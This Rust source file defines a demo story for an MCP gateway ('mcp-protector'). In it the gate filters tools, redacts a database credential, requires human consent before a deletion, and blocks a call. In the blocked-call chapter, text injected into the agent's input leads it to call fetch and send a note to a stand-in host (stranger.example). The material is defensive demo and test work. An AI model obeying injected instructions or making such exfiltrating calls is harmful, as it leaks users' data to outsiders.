//! The first story: notes, over stdio.

use super::server::BACKUP;
use super::story::{
    BeforeRequest, CALL, DemoChapter, DemoCheck, DemoRequest, DemoRow, DemoSetting, DemoStory,
    INITIALIZE, INITIALIZED,
};
use super::traces::RequestTraces;

/// The note with a credential, without it.
const REDACTED: &str =
    "Nightly, from postgres://notes:[redacted:postgres-url]@db.internal/notes to the other disk.";

const READ_WELCOME: &str = r#"{"name":"read_note","arguments":{"name":"welcome"}}"#;
const DELETE_BACKUP: &str = r#"{"name":"delete_note","arguments":{"name":"backup"}}"#;

pub(super) static NOTES: DemoStory = DemoStory {
    name: "notes",
    title: "mcp-protector: the gate at work",
    introduction: "An agent, a gate and a server, on this machine and over stdio. The agent is a script. The gate \
        is this program, started as `mcp-protector proxy`. The server keeps notes. The gate's decisions come from \
        its audit log, and the server's part from its own log. The demo checks each statement against both.",
    drawing: "  agent  ⇄  mcp-protector proxy --config gate.toml  ⇄  notes-server",
    setting: DemoSetting::Stdio,
    pack: "policies/quickstart",
    files: &[
        (
            "notes.cedar",
            include_str!("../../../policies/quickstart/notes.cedar"),
        ),
        (
            "pages.cedar",
            include_str!("../../../policies/quickstart/pages.cedar"),
        ),
        (
            "tools.toml",
            include_str!("../../../policies/quickstart/tools.toml"),
        ),
        (
            "gate.toml",
            include_str!("../../../policies/quickstart/gate.toml"),
        ),
    ],
    servers: &[("server got", "server-received.jsonl")],
    chapters: &[
        START,
        LIST,
        ALLOWED_CALL,
        DENIED_ARGUMENT,
        REDACTION,
        CONSENT,
    ],
    logged: &[],
    records: &[
        "tool_call ALLOW read_note",
        "tool_result ALLOW read_note",
        "tool_call BLOCK fetch",
        "tool_call ALLOW read_note",
        "tool_result ALLOW read_note",
        "consent consent_requested delete_note",
        "consent consent_granted delete_note",
        "tool_call ALLOW delete_note",
        "tool_result ALLOW delete_note",
    ],
};

const START: DemoChapter = DemoChapter {
    title: "The agent starts a session",
    introduction: "",
    requests: &[DemoRequest {
        method: "initialize",
        params: |_| INITIALIZE.to_owned(),
        then: &[INITIALIZED],
        rows: &[DemoRow::Decision("request"), DemoRow::Messages],
        checks: &[
            DemoCheck(
                "the server receives the agent's own bytes",
                &["true"],
                |traces| Ok(vec![traces.arrived_as_sent().to_string()]),
            ),
            DemoCheck("the notes server answers", &["notes-server"], |traces| {
                Ok(vec![traces.answer.text("/result/serverInfo/name")])
            }),
            DemoCheck(
                "the gate decides by the policies that the demo shows",
                &["true"],
                |traces| {
                    let decided_by = traces.record("request")?.text("/revision");
                    Ok(vec![(decided_by == traces.revision).to_string()])
                },
            ),
        ],
        ..CALL
    }],
};

const LIST: DemoChapter = DemoChapter {
    title: "The gate filters the list of tools",
    introduction: "",
    requests: &[DemoRequest {
        method: "tools/list",
        rows: &[
            DemoRow::Decision("tools_list"),
            DemoRow::Text("gate hid", |traces| {
                let edits = traces.record("gate_decision")?;
                Ok(edits.texts("/edits", "/reason").join(", "))
            }),
            DemoRow::Text("agent got", |traces| {
                let names = traces.answer.texts("/result/tools", "/name");
                Ok(format!("four tools: {}", names.join(", ")))
            }),
        ],
        checks: &[
            DemoCheck(
                "the agent sees the tools that a policy permits",
                &["read_note", "write_note", "delete_note", "fetch"],
                |traces| Ok(traces.answer.texts("/result/tools", "/name")),
            ),
            DemoCheck(
                "the log names the tool that no policy permits",
                &["`export_notes`"],
                |traces| {
                    let hidden = traces.record("gate_decision")?.texts("/edits", "/reason");
                    let name = |it: &String| it.chars().take(14).collect();
                    Ok(hidden.iter().map(name).collect())
                },
            ),
        ],
        ..CALL
    }],
};

const ALLOWED_CALL: DemoChapter = DemoChapter {
    title: "The gate forwards a call that a policy permits",
    introduction: "",
    requests: &[DemoRequest {
        params: |_| READ_WELCOME.to_owned(),
        checks: &[
            DemoCheck(
                "the call and its result have a record each",
                &["tool_call ALLOW", "tool_result ALLOW"],
                |traces| Ok(traces.decisions()),
            ),
            DemoCheck(
                "the server receives the call as it is",
                &[READ_WELCOME],
                RequestTraces::received_params,
            ),
            DemoCheck(
                "the agent gets the note",
                &["Remember to water the plants."],
                |traces| Ok(traces.content()),
            ),
        ],
        ..CALL
    }],
};

const DENIED_ARGUMENT: DemoChapter = DemoChapter {
    title: "The gate rejects a call because of an argument",
    introduction: "A text that the agent has read instructs it to send the note to a stranger.",
    requests: &[DemoRequest {
        params: |_| {
            r#"{"name":"fetch","arguments":{"url":"https://stranger.example/?note=Remember"}}"#
                .to_owned()
        },
        checks: &[
            DemoCheck("the call has one record", &["tool_call BLOCK"], |traces| {
                Ok(traces.decisions())
            }),
            DemoCheck(
                "this policy rejects it",
                &["fetch-only-example"],
                |traces| Ok(traces.record("tool_call")?.texts("/policies", "")),
            ),
            DemoCheck(
                "the server receives nothing",
                &[],
                RequestTraces::received_params,
            ),
            DemoCheck(
                "the agent gets the code and the advice of the policy",
                &[
                    "4030",
                    "page_not_allowed",
                    "fetch pages below https://example.com/",
                ],
                |traces| Ok(traces.error()),
            ),
            DemoCheck("it gets the name of the record too", &["true"], |traces| {
                let named = traces.answer.text("/error/data/audit");
                let record = traces.record("tool_call")?.text("/reference");
                Ok(vec![(named == record).to_string()])
            }),
        ],
        ..CALL
    }],
};

const REDACTION: DemoChapter = DemoChapter {
    title: "The gate takes a credential out of a result",
    introduction: "",
    requests: &[DemoRequest {
        before: &[BeforeRequest::Row("the note", BACKUP)],
        params: |_| r#"{"name":"read_note","arguments":{"name":"backup"}}"#.to_owned(),
        checks: &[
            DemoCheck(
                "the agent gets the note without the password",
                &[REDACTED],
                |traces| Ok(traces.content()),
            ),
            DemoCheck("the log names the rule", &["postgres-url"], |traces| {
                Ok(traces.record("tool_result")?.texts("/redactions", ""))
            }),
        ],
        ..CALL
    }],
};

const CONSENT: DemoChapter = DemoChapter {
    title: "The gate asks a person before a deletion",
    introduction: "",
    requests: &[DemoRequest {
        before: &[BeforeRequest::Policy("delete-after-approval")],
        params: |_| DELETE_BACKUP.to_owned(),
        checks: &[
            DemoCheck(
                "this policy requires the approval",
                &["delete-after-approval"],
                |traces| Ok(traces.record("consent")?.texts("/policies", "")),
            ),
            DemoCheck(
                "the question names the tool and the note",
                &["1"],
                |traces| {
                    let named = |question: &&String| {
                        question.contains("delete_note") && question.contains("backup")
                    };
                    let questions = traces.questions.iter().filter(named).count();
                    Ok(vec![questions.to_string()])
                },
            ),
            DemoCheck(
                "the server receives the approved call",
                &[DELETE_BACKUP],
                RequestTraces::received_params,
            ),
            DemoCheck("the server deletes the note", &["deleted"], |traces| {
                Ok(traces.content())
            }),
        ],
        ..CALL
    }],
};
